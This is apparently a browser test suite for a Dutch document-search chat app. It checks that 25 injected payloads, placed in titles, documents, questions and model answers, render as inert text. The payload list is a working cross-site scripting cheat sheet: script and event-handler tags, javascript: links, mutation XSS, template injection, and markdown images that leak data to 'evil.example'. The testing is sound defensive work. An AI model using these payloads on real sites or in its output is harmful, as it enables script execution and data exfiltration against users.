// Text is data: a hundred payloads in titles, documents, questions and what a
// model says. No script runs, no element comes of it, no request leaves.

import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { ask, atEnd, open, serve, tempDir } from "../harness.mjs";
import { changeRecord, Proxy } from "../proxy.mjs";

const run = "window.hit=1";
const away = "https://evil.example/";
/** payloads are 25, each used as a title, a document, a question and an answer: 100. */
const payloads = [
  `<script>${run}</script>`, `"><script src=${away}x.js></script>`, `<img src=x onerror=${run}>`, `<img src=${away}pixel.gif>`,
  `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<body onload=${run}>`, `<details open ontoggle=${run}>x</details>`, `<style>@import '${away}a.css';*{background:url(${away}b)}</style>`, `<link rel=stylesheet href=${away}c.css>`,
  `<meta http-equiv=refresh content="0;url=${away}">`, `<base href="${away}">`, `<form action=${away}><input name=q autofocus onfocus=${run}></form>`, `<object data=${away}o></object>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`, `<template><img src=x onerror=${run}></template>`, `[klik](javascript:${run})`, `![x](${away}leak?q=geheim)`,
  `{{constructor.constructor('${run}')()}}`, `\u202e<a href="javascript:${run}">x</a>`, `</div></main></body><script>${run}</script>`, `<!--><img src=x onerror=${run}>-->`,
  `<a href="${away}" ping="${away}p" target=_blank>[1]</a>`,
];

/** unharmed asserts that nothing came of what is shown. */
async function unharmed(page, url, where) {
  const found = await page.evaluate(() => ({
    hit: window.hit,
    violations: window.violations,
    elements: [...document.querySelectorAll("#app :is(script, style, img, svg, iframe, object, embed, base, link, meta, math, template, video, form[action])")].map((e) => e.outerHTML),
    links: [...document.querySelectorAll("a[href]")].map((a) => a.href).filter((h) => !h.startsWith(location.origin)),
  }));
  assert.deepEqual(found, { hit: undefined, violations: [], elements: [], links: [] }, where);
  assert.deepEqual([...page.origins], [new URL(url).origin], where);
  assert.deepEqual(page.faults, [], where);
}

async function watched(url) {
  const page = await open("about:blank");
  page.origins.clear();
  await page.addInitScript(() => {
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (e) => window.violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  await page.goto(url);
  return page;
}

let hostile;
/** hostileSite serves a corpus of payloads: in titles, publishers, texts. */
function hostileSite() {
  return hostile ??= (async () => {
    const corpus = tempDir();
    const documents = payloads.map((p, i) => {
      writeFileSync(join(corpus, `${i}.txt`), `Over onderwerp ${i}\n\nOnderwerp nummer ${i} is ${p} en kost ${i} euro.\n`);
      return `  ${i}.txt: ${JSON.stringify({ title: `${i} ${p}`, publisher: p, kind: "x", dossier: p })}`;
    });
    writeFileSync(join(corpus, "manifest.yaml"), `documents:\n${documents.join("\n")}\nquestions:\n  - ${JSON.stringify(payloads[2])}\n`);
    const url = await serve("--embedder", "none", "--corpus", corpus);
    const proxy = await Proxy.start(url);
    atEnd(() => proxy.close());
    return { url, proxy };
  })();
}

test("25 payloads as titles, in the list and in the history", async () => {
  const { url } = await hostileSite();
  const page = await watched(url + "/documents");
  await page.locator(".documents li").nth(payloads.length - 1).waitFor();
  const shown = await page.locator(".documents a").allTextContents();
  for (const [i, p] of payloads.entries()) assert.ok(shown.includes(`${i} ${p}`), `title ${p} isn't shown as it is`);
  await unharmed(page, url, "list");
  await page.context().close();
});

test("25 payloads in documents, as they are", async () => {
  const { url } = await hostileSite();
  const page = await watched(url);
  const { documents } = await (await fetch(url + "/api/v1/documents?per_page=200")).json();
  for (const d of documents) {
    await page.goto(`${url}/documents/${d.id}?start=0&end=4`);
    await page.locator(".document .source-text").waitFor();
    const text = await (await fetch(`${url}/api/v1/documents/${d.id}/text`)).text();
    assert.equal(await page.locator(".source-text").evaluate((e) => e.textContent), text);
    await unharmed(page, url, d.title);
  }
  await page.context().close();
});

test("25 payloads as questions and conversation titles", async () => {
  const { url } = await hostileSite();
  const page = await watched(url);
  for (const p of payloads) {
    const turn = await ask(page, p);
    assert.equal(await turn.locator(".question").textContent(), p.trim());
    const also = turn.locator(".passages button").last();
    if (await also.count() > 0) {
      if (!await also.isVisible()) await turn.locator(".also summary").click();
      await also.click();
      await turn.locator(".source-text").waitFor();
      await page.keyboard.press("Escape");
      await turn.locator(".source").waitFor({ state: "detached" });
    }
    await unharmed(page, url, p);
  }
  await page.context().close();
});

test("25 payloads from a model, in every field of a record", async () => {
  const { proxy } = await hostileSite();
  const page = await watched(proxy.url);
  for (const p of payloads) {
    const citation = {
      number: 1, document_id: p, version: p, title: p, publisher: p, date: p, section: [p, p], page: 1, url: `javascript:${run}`,
      source_url: `javascript:${run}`, passage_id: p, quote: p, start: 0, end: 5, status: "corrected", document_status: "changed",
    };
    proxy.plan("/api/v1/chat", { change: changeRecord((r) => ({
      ...r, status: "answered", refusal: null, text: `${p} [1]\n\n- ${p} [1]\n1. ${p} [2]`, search_question: p, model: p, notice: p,
      citations: [citation], passages: [{ ...citation, text: p, start: 9, end: 12, document_id: "x" }],
    })) });
    const turn = await ask(page, "Wat zegt het model?");
    await turn.locator("button.cite").first().focus();
    await page.locator("[role=tooltip]").waitFor();
    await turn.locator("button.cite").first().click();
    await turn.locator(".source .utrecht-alert--error").waitFor();
    await unharmed(page, proxy.url, p);
    await page.keyboard.press("Escape");
    await turn.locator(".source").waitFor({ state: "detached" });
    page.faults.length = 0;
  }
  assert.equal(payloads.length * 4, 100);
  await page.context().close();
});

test("below a sub-path everything works as well", async () => {
  const corpus = tempDir();
  writeFileSync(join(corpus, "a.txt"), "Over appels\n\nEen appel kost twee euro op de markt in Utrecht.\n");
  const url = await serve("--embedder", "none", "--corpus", corpus, "--public-url", "http://127.0.0.1/onder/weg");
  const page = await watched(url + "/onder/weg/");
  await ask(page, "Wat kost een appel op de markt?");
  await page.waitForURL(/\/onder\/weg\/c\/conv_/);
  await page.reload();
  await page.locator(".turn").waitFor();
  await page.getByRole("link", { name: "Documenten", exact: true }).click();
  await page.waitForURL(/\/onder\/weg\/documents$/);
  await page.locator(".documents a").first().click();
  await page.locator(".source-text").waitFor();
  assert.match(await page.locator(".source-text").innerText(), /twee euro/);
  await unharmed(page, url, "sub-path");
  await page.context().close();
});
